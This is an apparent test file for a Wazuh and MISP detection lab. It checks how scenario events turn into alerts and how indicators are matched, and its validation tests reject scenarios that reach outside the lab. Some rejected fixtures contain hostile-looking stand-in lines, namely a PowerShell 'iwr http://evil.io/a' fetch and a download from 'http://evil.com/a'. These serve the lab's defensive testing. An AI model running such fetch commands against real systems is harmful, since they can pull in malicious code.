import test from "ava";
import { integrationGroups } from "../../components/telemetry.ts";
import { renderOssecConf } from "../../components/wazuh/ossec-conf.ts";
import type { Alert } from "../../integration-script/alert/alert.ts";
import { indicatorReader } from "../../integration-script/indicators/extract.ts";
import { defaultOptions } from "../../integration-script/settings/options.ts";
import { seededOf } from "../../lab/demo/seeded.ts";
import { queuedEvents, withRun } from "../../lab/telemetry/events.ts";
import { parseScenario, readScenario, scenarioNames } from "../../scenarios/scenario.ts";
import { alertOf, send } from "../analysis/analyse.ts";
import { labAnalysis } from "../detection/content.ts";

const run = "a3f2c901";
const scenarios = scenarioNames().map(readScenario);

/** custom-misp's options as the lab's ossec.conf has them. */
const [, options = ""] = /<options>(.*)<\/options>/.exec(
  renderOssecConf({
    settings: { archives: true, vulnerabilityDetection: false },
    misp: { url: "https://misp", publicUrl: "https://misp", key_file: "key", ca_file: "" },
    indexer: undefined,
  }),
)!;
const readIndicators = await indicatorReader({ ...defaultOptions, ...(JSON.parse(options) as object) });

test("there is a scenario for each way that an indicator is seen, and for what goes wrong", (t) => {
  t.deepEqual(scenarioNames(), [
    "dns",
    "hash",
    "ip",
    "url",
    "fim",
    "packetbeat-tls",
    "powershell",
    "quiet",
    "storm",
    "outage",
  ]);
});

test("no two scenarios speak for the same agent, so that what Wazuh correlates in one is not of another", (t) => {
  const endpoints = scenarios.flatMap(({ endpoints: { windows, linux } }) =>
    [windows, linux].filter((endpoint) => endpoint !== undefined),
  );
  for (const key of ["id", "name"] as const) {
    const values = endpoints.map((endpoint) => endpoint[key]);
    t.deepEqual([...new Set(values)], values);
  }
});

for (const scenario of scenarios) {
  const { name, endpoints, indicators, steps } = scenario;
  const entries = steps.flatMap(({ replay }) => replay ?? []);

  test(`${name}: MISP holds its indicators as the lab's own events`, (t) => {
    t.is(seededOf(scenario).length, indicators.length);
  });

  test(`${name}: each event becomes an alert that custom-misp is called for`, (t) => {
    for (const entry of entries) {
      const endpoint = { id: "901", name: endpoints[entry.on]!.name, os: entry.on };
      const [event] = queuedEvents(entry, { run, endpoint, now: new Date(), first: 1 });
      const outcome = send(labAnalysis(), `${event!.queue}:${event!.location}:${event!.message}`);
      t.true(outcome?.logged);
      const alert = alertOf(outcome);
      t.true(alert.rule!.level >= 3);
      t.true(alert.rule!.groups.some((group) => integrationGroups.includes(group)));
      t.is(alert.agent.name, endpoint.name);
      t.true(JSON.stringify(alert).includes(event!.mark), "its mark is in the alert, by which it is found");
    }
  });

  if (indicators.length > 0) {
    test(`${name}: custom-misp finds each of its indicators in the alert of an event that is followed`, (t) => {
      const found = entries
        .filter(({ follow }) => follow !== undefined)
        .flatMap((entry) => {
          const endpoint = { id: "901", name: "host", os: entry.on };
          const [event] = queuedEvents(entry, { run, endpoint, now: new Date(), first: 1 });
          const outcome = send(labAnalysis(), `${event!.queue}:${event!.location}:${event!.message}`);
          return readIndicators(alertOf(outcome) as unknown as Alert).indicators.flatMap(
            ({ spellings }) => spellings,
          );
        });
      for (const { value } of withRun(indicators, run)) {
        t.true(
          found.some((spelling) => value === spelling || value.split("|").includes(spelling)),
          `${value} among ${found.join(", ")}`,
        );
      }
    });
  }
}

test("the benign hour has no indicator that MISP holds", (t) => {
  const known = new Set(
    scenarios.flatMap(({ indicators }) => indicators.flatMap(({ value }) => value.split("|"))),
  );
  for (const entry of readScenario("quiet").steps.flatMap(({ replay }) => replay ?? [])) {
    const endpoint = { id: "908", name: "host", os: entry.on };
    const [event] = queuedEvents(entry, { run, endpoint, now: new Date(), first: 1 });
    const outcome = send(labAnalysis(), `${event!.queue}:${event!.location}:${event!.message}`);
    const { indicators } = readIndicators(alertOf(outcome) as unknown as Alert);
    t.true(indicators.length > 0);
    t.deepEqual(
      indicators.filter(({ value }) => known.has(value)),
      [],
    );
  }
});

const minimal = (step: string, endpoints = 'windows: { id: "901", name: win10 }'): string => `
title: A title
story: A story
techniques: [{ id: T1071.004, name: DNS }]
lookAt: [{ where: wazuh, what: The alert }]
endpoints: { ${endpoints} }
steps:
  - what: Something is done.
    why: For a reason.
    ${step}
`;

const lookUp = (name: string): string =>
  `replay: [{ on: windows, sysmon: { event: 22, data: { QueryName: ${name} } } }]`;

test("a scenario needs no more than its text, whom it speaks for and its steps", (t) => {
  const { name, steps } = parseScenario("mine", minimal(lookUp("www.lab.example")));
  t.is(name, "mine");
  t.like(steps[0], { follow: "now", within: 60, expect: [] });
});

for (const [what, step, message] of [
  ["looks up a name of the internet", lookUp("evil.com"), /evil\.com is a name outside the lab.*QueryName/s],
  ["looks up a name of no top-level domain", lookUp("evil.corp"), /evil\.corp is a name outside the lab/],
  [
    "connects to an address of the internet",
    "replay: [{ on: windows, sysmon: { event: 3, data: { DestinationIp: 8.8.8.8 } } }]",
    /8\.8\.8\.8 is an address outside the lab.*DestinationIp/s,
  ],
  [
    "gives PowerShell an address of the internet",
    "replay: [{ on: windows, sysmon: { event: 1, data: { CommandLine: { encodedCommand: 'iwr http://evil.io/a' } } } }]",
    /evil\.io is a name outside the lab/,
  ],
  [
    "has Packetbeat see a server of the internet",
    "replay: [{ on: windows, packetbeat: { tls: { client: { server_name: evil.zip } } } }]",
    /evil\.zip is a name outside the lab.*server_name/s,
  ],
  [
    "adds an indicator of the internet",
    "indicator: { type: domain, value: evil.com }",
    /evil\.com is a name/,
  ],
  [
    "adds an address of the internet",
    "indicator: { type: ip-dst, value: 1.1.1.1 }",
    /1\.1\.1\.1 is an address/,
  ],
  [
    "downloads from the internet",
    `${lookUp("www.lab.example")}\n    live: [{ on: windows, download: 'http://evil.com/a' }]`,
    /evil\.com is a name outside the lab.*download/s,
  ],
  ["does two things at once", `${lookUp("www.lab.example")}\n    misp: stop`, /exactly one of/],
  ["does nothing", "within: 3", /exactly one of/],
  ["acts without a replay", "live: [{ on: windows, resolve: iabg.de }]\n    misp: stop", /needs a replay/],
  [
    "speaks for nobody",
    "replay: [{ on: linux, sysmon: { event: 3, data: {} } }]",
    /a replay speaks for it.*endpoints\.linux/s,
  ],
  [
    "has an event of two kinds",
    "replay: [{ on: windows, sysmon: { event: 3, data: {} }, packetbeat: {} }]",
    /exactly one of sysmon, syscheck, packetbeat/,
  ],
  [
    "expects nothing of a number",
    `${lookUp("www.lab.example")}\n    expect: [{ title: Nothing, count: raised }]`,
    /one of is, atLeast/,
  ],
  ["has a word that means nothing", `${lookUp("www.lab.example")}\n    wtihin: 3`, /wtihin/],
] as const) {
  test(`a scenario is refused, with the place, when it ${what}`, (t) => {
    t.throws(() => parseScenario("mine", minimal(step)), { message });
  });
}

test("a name that no scenario has is refused with those that there are", (t) => {
  t.throws(() => readScenario("../package"), { message: /There is no scenario "\.\.\/package".*dns, hash/ });
});
